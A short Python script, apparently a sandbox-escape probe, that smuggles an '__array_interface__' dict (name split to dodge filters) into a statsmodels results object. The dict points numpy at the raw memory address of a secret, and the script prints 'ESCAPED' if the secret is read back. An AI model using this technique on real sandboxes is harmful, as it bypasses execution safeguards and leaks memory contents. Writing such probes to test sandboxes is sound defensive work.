"""statsmodels' results take attributes from a dict."""
import numpy as np
import statsmodels.api as sm

secret = b"0123456789abcdef"
interface = {"shape": (48,), "typestr": "|u1", "data": (id(secret), False), "version": 3}
results = sm.OLS([1.0, 2.0, 4.0], [1.0, 2.0, 3.0]).fit()
real = type(results.model.fit()._results) if hasattr(results, "_results") else type(results)
made = real(results.model, results.params, cov_type="nonrobust", **{"__array_inter" + "face__": interface})
print("ESCAPED:results_namespace" if secret in bytes(np.asarray(made)) else "held")
